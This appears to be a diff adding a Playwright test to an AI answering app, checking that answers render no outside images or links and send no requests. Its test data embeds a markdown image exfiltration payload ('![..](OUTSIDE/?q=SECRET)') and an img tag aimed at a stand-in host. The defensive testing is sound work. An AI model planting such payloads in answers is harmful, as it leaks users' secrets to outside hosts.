@@ -154,5 +154,32 @@ def test_nothing_that_records_and_names_hold_runs_or_leaves(city: City, visit: V
     assert page.locator(f"body :is({FOREIGN})").count() == 0
 
 
+def test_an_answer_makes_no_request_outside(city: City, visit: Visit) -> None:
+    """Row G1: what a record has an answer say is read as words, and nothing is fetched, in the answer and when it is opened again."""
+    server, key = city.server, city.administrator
+    corpus, label = "nets-" + uuid.uuid4().hex[:6], {"class": "open", "purposes": ["answering"], "residency": ["KR"]}
+    assert stored(server, key, "POST", "corpora", {"name": corpus, "title": "그물", **label}).status == 200
+    told = f"갈매기 그물은 ![그물]({OUTSIDE}/?q=SECRET) [여기]({OUTSIDE}/a) <img src={OUTSIDE}/i> {OUTSIDE}/bare 에 있다."
+    put = stored(server, key, "POST", f"corpora/{corpus}/files?path=a.txt", told.encode())
+    assert put.status == 200, put.body
+    route = {"name": corpus, "model": "fake", "corpora": [corpus], "mode": "extractive"}
+    assert stored(server, key, "POST", "routes", route).status in (200, 201)
+    page = visit.page(city.reader)
+    requests: list[str] = []
+    page.context.on("request", lambda request: requests.append(request.url))
+    asked(page, "갈매기 그물은 어디에 있나요?", corpus)
+    for _ in range(2):
+        prose = page.locator(".prose").last
+        expect(prose).to_contain_text("⟨outside[.]example⟩")
+        nothing_ran(page)
+        assert "SECRET" not in prose.inner_text()
+        assert page.locator(".answer img").count() == 0
+        assert [href for href in hrefs(page) if "outside" in href] == []
+        # The conversation is opened again: what was kept of it is shown.
+        page.reload()
+        page.wait_for_load_state("networkidle")
+    assert requests and [url for url in requests if not url.startswith((f"{server.url}/", "blob:"))] == []
+
+
 def hrefs(page) -> list[str]:
     return page.locator(".answer a").evaluate_all("links => links.map(link => link.getAttribute('href'))")
